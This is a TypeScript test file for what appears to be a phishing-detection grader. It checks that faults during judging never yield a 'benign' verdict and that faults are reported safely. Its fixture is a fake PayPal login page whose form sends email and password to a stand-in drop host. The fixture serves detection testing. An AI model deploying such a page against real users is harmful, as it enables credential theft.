import { describe, expect, test } from 'bun:test'
import { join } from 'node:path'
import { grade } from '../../src/trust/grade.ts'
import { TABLES } from '../../src/trust/judge/tables.ts'
import { trustOperations } from '../../src/trust/routes.ts'
import { type View, type Views, viewsOf } from '../../src/trust/subjects.ts'
import { ChildPool } from '../../src/trust/workers/pool.ts'
import { callerWith, testApp, withKey } from '../http/app.ts'
import { captureOf } from './captures.ts'
import { reportOf, soon } from './workers/scripted.ts'

const PHISH = `<!doctype html><html lang=en><head><title>PayPal: Log in to your account</title></head><body>
  <h1>Log in to PayPal</h1><p>Your account has been limited.</p><form action="https://drop.example/x" method="post">
  <input type="email" name="email"><input type="password" name="pass"><button>Log in</button></form>
  <script>document.body.append('drawn')</script></body></html>`
const CAPTURE = captureOf('http://login.evil-site.com/page', { body: PHISH })
const WHOLE = grade(CAPTURE)

const fault = (): never => {
  throw new RangeError('a bug of ours')
}

/** The same object, in which one member cannot be read. */
function without<T extends object>(object: T, name: string): T {
  return Object.defineProperty({ ...object }, name, { get: fault, enumerable: true })
}

const views = () => viewsOf(CAPTURE)
const MEMBERS = Object.keys(views().views[0].subject)
const STATES = views().views.length

/** The views of the capture, one of which has a member that cannot be read. */
function faulty(state: number, name: string): Views {
  const {
    views: [first, ...rest],
    ...others
  } = views()
  const spoil = (view: View, at: number): View =>
    at === state ? { ...view, subject: without(view.subject, name) } : view
  return { ...others, views: [spoil(first, 0), ...rest.map((view, at) => spoil(view, at + 1))] }
}

const cases = Array.from({ length: STATES }, (_, state) =>
  MEMBERS.map((name) => [state, name] as const),
).flat()

describe('a fault of ours in judging never costs the report [T11]', () => {
  test.each(cases)('state %d of the page, %s', (state, name) => {
    const given = faulty(state, name)
    const report = grade(CAPTURE, TABLES, given)
    expect(given.faults.length).toBeGreaterThan(0)
    expect(report.verdict).not.toBe('benign')
    if (report.coverage.scripts.cut === null) expect(report.coverage.limits).toContain('check_failed')
    else expect(report.coverage.scripts.cut).toBe('broken')
  })

  test.each(['hops', 'body', 'resources', 'fetched_at'])('the capture’s %s, while it is read', (name) => {
    let reads = 0
    const capture = Object.defineProperty({ ...CAPTURE, resources: [] }, name, {
      // Once, since the report has to say something of it.
      get: () => (reads++ === 0 ? fault() : Reflect.get({ ...CAPTURE, resources: [] }, name)),
    })
    const given = viewsOf(capture)
    expect(given.faults).toHaveLength(1)
    expect(given.scripts.cut).toBe('broken')
    expect(grade(capture, TABLES, given).verdict).not.toBe('benign')
  })

  test('the core of a page, while it is made', () => {
    const capture = captureOf('https://www.vandorelh.com/', { body: '<h1>Boats</h1><input>' })
    const {
      views: [view],
      ...others
    } = viewsOf(capture)
    const page = view.subject.page === null ? null : without(view.subject.page, 'near')
    const given: Views = { ...others, views: [{ ...view, subject: { ...view.subject, page } }] }
    expect(grade(capture, TABLES, given).coverage.scripts.cut).toBe('broken')
    expect(given.faults).toHaveLength(1)
  })

  test('what is not touched by it is judged as ever', () => {
    const { signals } = grade(CAPTURE, TABLES, faulty(STATES - 1, 'page'))
    expect(signals.map(({ id }) => id)).toEqual(
      expect.arrayContaining(
        WHOLE.signals.map(({ id }) => id).filter((id) => id.startsWith('content.brand')),
      ),
    )
  })

  test('without one, nothing is told', () => {
    const given = views()
    expect([grade(CAPTURE, TABLES, given).coverage.scripts.cut, given.faults]).toEqual([null, []])
  })
})

test('a fault beside a report is told with the request, and the report is answered [T11]', async () => {
  const told: string[] = []
  const { ask } = testApp({
    operations: trustOperations({
      checkUrl: async () => ({ report: '{"verdict":"inconclusive"}', faults: ['RangeError\n    at judge'] }),
      onReport: (report) => told.push(report),
      onFailure: fault,
      onFault: (place, requestId) => told.push(`${place} ${typeof requestId}`),
    }),
    authenticate: () => callerWith('trust:read'),
  })
  const request = { method: 'POST', body: '{"url":"https://shop.example/"}' }
  const response = await ask('/v1/trust/check-url', withKey(request))
  expect([response.status, await response.json()]).toEqual([200, { verdict: 'inconclusive' }])
  expect(told).toEqual(['RangeError\n    at judge string', '{"verdict":"inconclusive"}'])
})

describe('a child tells its parent of faults, by their places alone [T11]', () => {
  test.each([0, 2, 9])('%d of them', async (count) => {
    const pool = new ChildPool({ entry: join(import.meta.dir, 'workers', 'scripted-child.ts'), size: 1 })
    try {
      const url = `http://child.example/fault?value=${count}`
      const task = { input: url, url, settings: { resolver: null, allowNetworks: [], contactUrl: null } }
      const outcome = await pool.run(task, soon(60_000))
      expect(reportOf<string>(outcome)).toBe('whole')
      const faults = 'faults' in outcome ? outcome.faults : null
      expect(faults).toHaveLength(Math.min(count, 3))
      for (const place of faults ?? []) {
        expect(place).toStartWith('RangeError\n')
        expect(place).not.toContain('secret')
      }
    } finally {
      await pool.close()
    }
  })
})
